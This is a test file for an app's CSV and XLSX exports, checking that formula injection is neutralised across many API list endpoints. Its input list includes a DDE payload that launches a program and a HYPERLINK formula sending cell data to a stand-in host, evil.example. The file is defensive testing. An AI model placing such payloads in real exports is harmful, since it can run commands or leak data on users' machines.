/** Formulas in the exports: text in every file that a spreadsheet opens, in cells and in headers. */

import { assert, assertEquals } from "@std/assert";
import { unzipSync } from "fflate";
import { csvCells } from "../support/csv_cells.ts";
import { csv } from "../support/data_folder.ts";
import { hostileExports } from "../support/hostile_exports.ts";
import { ADMIN_KEY, ADMIN_KEY_SHA256 } from "../support/keys.ts";
import { openApp } from "../support/open_app.ts";
import { readXlsx } from "../support/read_back.ts";

const FORMULAS = [
  "=1+1",
  "+2+2",
  "-3-3",
  "@SUM(A1:A9)",
  "＝4+4",
  "＋5",
  "－6",
  "＠SUM(B1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Open")',
];
/** In a column of ids; white space in front is kept in the value of a row set aside. */
const SET_ASIDE = [...FORMULAS, "\t=7", "\r=8", "\n=9", "-1", "'x"];

const FILES = {
  ...hostileExports(FORMULAS),
  "customers_2.csv": csv(["Customer_Id"], ...SET_ASIDE.map((id) => [id])),
};
const SETTINGS = {
  ADMIN_KEY_SHA256,
  MAX_SET_ASIDE: "1",
};

/** Every list, so that each name is a cell and a header where it can be one. */
const LISTS = [
  "/api/v1/interactions",
  "/api/v1/customers",
  "/api/v1/metrics/interactions?by=channel,topic,type",
  "/api/v1/metrics/interactions?by=occupation,customer_id",
  "/api/v1/metrics/interactions?by=type&pivot=channel",
  "/api/v1/metrics/interactions?by=channel&pivot=topic",
  "/api/v1/metrics/interactions?by=topic&pivot=type",
  "/api/v1/metrics/interactions?by=channel&compare=previous_year&start_date=2001-01-01&end_date=2001-12-31",
  "/api/v1/metrics/customers?by=type,occupation",
  "/api/v1/interactions/1/timeline?interval=day",
  "/api/v1/interactions/5/topics",
];

const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
const NUMBER = /^-?\d+(\.\d+)?(e-?\d+)?$/;

/** The cells of a CSV, none of which is a formula, without what keeps it from being one. */
function harmlessCells(text: string): string[][] {
  const rows = csvCells(text);
  for (const cell of rows.flat()) {
    assert(!FORMULA.test(cell) || NUMBER.test(cell), JSON.stringify(cell));
  }
  return rows.map((row) =>
    row.map((cell) =>
      FORMULA.test(cell.slice(1)) ? cell.replace(/^'/, "") : cell
    )
  );
}

Deno.test("formulas in the exports are text in every download", async (t) => {
  await using opened = await openApp(FILES, SETTINGS);
  const ask = async (path: string) => {
    const answer = await opened.app.request(path, {
      headers: { Authorization: `Bearer ${ADMIN_KEY}` },
    });
    assertEquals(answer.status, 200, path);
    return await answer.bytes();
  };
  const names = opened.snapshot.channels;
  assertEquals(names.length, FORMULAS.length);

  for (const list of LISTS) {
    const format = (name: string) =>
      `${list}${list.includes("?") ? "&" : "?"}format=${name}`;
    await t.step(list, async () => {
      const text = new TextDecoder().decode(await ask(format("csv")));
      const rows = harmlessCells(text);
      assert(rows.length > 1);
      const cells = new Set(rows.flat());
      const found = names.filter((name) => cells.has(name));
      assertEquals(found, names);

      const book = await ask(format("xlsx"));
      const sheet = new TextDecoder().decode(
        unzipSync(book)["xl/worksheets/sheet1.xml"],
      );
      assertEquals(sheet.match(/<f[ />]|t="str"/g), null);
      const grid = await readXlsx(book);
      assertEquals(
        grid.map((row) => rows[0].map((_, i) => `${row[i] ?? ""}`)),
        rows,
      );
    });
  }
  await t.step("rows set aside", async () => {
    const bytes = await ask("/api/v1/data/set-aside?format=csv&limit=1000");
    const [header, ...rows] = harmlessCells(new TextDecoder().decode(bytes));
    assertEquals(header.at(-1), "value");
    assertEquals(rows.map((row) => row.at(-1)), SET_ASIDE);
  });
});
